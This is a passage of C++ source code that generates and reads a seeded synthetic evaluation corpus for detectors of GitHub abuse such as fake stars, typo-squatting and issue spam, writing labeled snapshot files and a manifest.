    c[static_cast<std::size_t>(Detector::fake_stars)] = {26, 26};
    c[static_cast<std::size_t>(Detector::automatic_updates)] = {26, 26};
    c[static_cast<std::size_t>(Detector::keyword_stuffing)] = {26, 26};
    c[static_cast<std::size_t>(Detector::typo_squatting)] = {26, 26};
    c[static_cast<std::size_t>(Detector::spoofed_contributor)] = {26, 25};
    c[static_cast<std::size_t>(Detector::issue_spam)] = {25, 26};
    c[static_cast<std::size_t>(Detector::reputation_farming)] = {21, 20};
    c[static_cast<std::size_t>(Detector::fake_stats)] = {20, 21};
    return c;
}

GeneratedCorpus generate_fixture_corpus(std::uint64_t seed, const CorpusCounts& counts, const ThresholdConfig& cfg,
                                        const std::filesystem::path& out_dir) {
    cfg.validate();
    for (auto d : kAllDetectors) {
        const auto& c = counts[static_cast<std::size_t>(d)];
        if (c.positives < 1 || c.negatives < 1)
            throw InvalidInput("fixture counts for " + std::string(to_string(d)) + " must be >= 1");
    }
    std::filesystem::create_directories(out_dir / "snapshots");
    GeneratedCorpus result;

    const auto refs = make_references(seed);
    {
        std::vector<ordered_json> rows;
        for (const auto& r : refs) {
            ordered_json j;
            j["full_name"] = r.full_name;
            j["readme"] = r.readme;
            j["star_count"] = r.star_count;
            rows.push_back(std::move(j));
        }
        write_lines(out_dir / "popular_references.jsonl", rows);
        ++result.files_written;
    }
    {
        std::vector<ordered_json> rows;
        for (int i = 0; i < 200; ++i) {
            Rng rng(mix_seed(seed, 0xB6, static_cast<std::uint64_t>(i)));
            std::vector<std::string> topics;
            while (topics.size() < static_cast<std::size_t>(rng.range(3, 6))) {
                std::string t(rng.pick(topic_words()));
                if (std::find(topics.begin(), topics.end(), t) == topics.end()) topics.push_back(t);
            }
            ordered_json j;
            char id[32];
            std::snprintf(id, sizeof id, "background-%03d", i);
            j["id"] = id;
            j["text"] = synth_readme(rng, topics.front(), topics);
            rows.push_back(std::move(j));
        }
        write_lines(out_dir / "background_readmes.jsonl", rows);
        ++result.files_written;
    }
    {
        std::vector<ordered_json> rows;
        Rng rng(mix_seed(seed, 0x5A4));
        for (int i = 0; i < 640; ++i) {
            ordered_json j;
            const int kind = i % 16;
            if (kind < 7) {
                j["text"] = spam_issue(rng, TextPool::training);
                j["label"] = 1;
            } else if (kind == 7) {
                j["text"] = spam_issue_plain(rng);
                j["label"] = 1;
            } else {
                j["text"] = benign_issue(rng, TextPool::training);
                j["label"] = 0;
            }
            rows.push_back(std::move(j));
        }
        write_lines(out_dir / "spam_train.jsonl", rows);
        ++result.files_written;
    }

    Factory factory(cfg, refs);
    static const std::array<std::int64_t, 8> near_miss_kinds = {2, 2, 1, 2, 3, 2, 1, 1};
    for (auto d : kAllDetectors) {
        const auto di = static_cast<std::size_t>(d);
        const auto& c = counts[di];
        std::vector<std::pair<bool, std::int64_t>> plan;  // (positive, variant)
        for (std::int64_t i = 0; i < c.positives; ++i) plan.emplace_back(true, 0);
        for (std::int64_t i = 0; i < c.negatives; ++i)
            plan.emplace_back(false, i % (near_miss_kinds[di] + 1));
        Rng order(mix_seed(seed, 0x0D, di));
        order.shuffle(plan);
        for (std::size_t i = 0; i < plan.size(); ++i) {
            Rng rng(mix_seed(seed, di + 1, i));
            auto built = factory.build(d, plan[i].first, plan[i].second, rng);
            char id[64];
            std::snprintf(id, sizeof id, "%s-%03zu", std::string(to_string(d)).c_str(), i + 1);
            LabeledInstance inst;
            inst.instance_id = id;
            inst.subcategory = d;
            inst.subject_kind = subject_kind_of(d);
            inst.snapshot_path = "snapshots/" + inst.instance_id + ".json";
            inst.label = built.label;
            inst.near_miss_clause = built.near_miss;
            ingest::store_snapshot(out_dir / inst.snapshot_path, built.primary);
            ++result.files_written;
            for (std::size_t k = 0; k < built.context.size(); ++k) {
                char ctx[96];
                std::snprintf(ctx, sizeof ctx, "snapshots/%s.ctx%02zu.json", inst.instance_id.c_str(), k + 1);
                inst.context_paths.emplace_back(ctx);
                ingest::store_snapshot(out_dir / ctx, built.context[k]);
                ++result.files_written;
            }
            result.instances.push_back(std::move(inst));
        }
    }
    write_manifest(out_dir / "manifest.jsonl", result.instances);
    ++result.files_written;
    return result;
}

std::vector<LabeledText> read_labeled_texts(const std::filesystem::path& path) {
    std::vector<LabeledText> out;
    for (const auto& j : read_lines(path)) {
        try {
            out.push_back({j.at("text").get<std::string>(), j.at("label").get<int>()});
        } catch (const json::exception& e) {
            throw SchemaError(path.string() + ": " + e.what());
        }
        if (out.back().label != 0 && out.back().label != 1) throw InvalidInput(path.string() + ": label must be 0 or 1");
    }
    return out;
}

std::vector<textkit::Corpus::Document> read_background(const std::filesystem::path& path) {
    std::vector<textkit::Corpus::Document> out;
    for (const auto& j : read_lines(path)) {
        try {
            out.push_back({j.at("id").get<std::string>(), textkit::tokenize(j.at("text").get<std::string>())});
        } catch (const json::exception& e) {
            throw SchemaError(path.string() + ": " + e.what());
        }
    }
    return out;
}

std::vector<detectors::PopularReference> read_references(const std::filesystem::path& path) {
    std::vector<detectors::PopularReference> out;
    for (const auto& j : read_lines(path)) {
        try {
            out.push_back({j.at("full_name").get<std::string>(), j.at("readme").get<std::string>(),
                           j.at("star_count").get<std::int64_t>()});
        } catch (const json::exception& e) {
            throw SchemaError(path.string() + ": " + e.what());
        }
    }
    return out;
}

}  // namespace ghabuse::eval
